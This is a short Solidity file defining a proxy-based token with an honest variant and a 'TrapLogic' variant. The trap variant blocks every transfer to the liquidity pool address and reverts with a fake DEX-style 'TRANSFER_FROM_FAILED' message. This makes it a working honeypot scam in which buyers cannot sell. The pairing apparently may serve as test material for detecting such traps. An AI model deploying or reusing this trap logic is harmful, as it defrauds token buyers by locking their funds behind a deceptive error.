// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// A token's code for proxies: everything lives in the proxy's storage.
abstract contract Logic {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    address internal _pool;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, address holder, address pool) external {
        require(totalSupply == 0, "Initialized");
        name = name_;
        symbol = symbol_;
        _pool = pool;
        totalSupply = 1_000_000_000 ether;
        balanceOf[holder] = totalSupply;
        emit Transfer(address(0), holder, totalSupply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _send(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "ERC20: insufficient allowance");
        allowance[from][msg.sender] -= amount;
        _send(from, to, amount);
        return true;
    }

    function _send(address from, address to, uint256 amount) internal virtual {
        require(balanceOf[from] >= amount, "ERC20: transfer amount exceeds balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

contract HonestLogic is Logic {}

contract TrapLogic is Logic {
    function _send(address from, address to, uint256 amount) internal override {
        require(to != _pool, "TransferHelper: TRANSFER_FROM_FAILED");
        super._send(from, to, amount);
    }
}
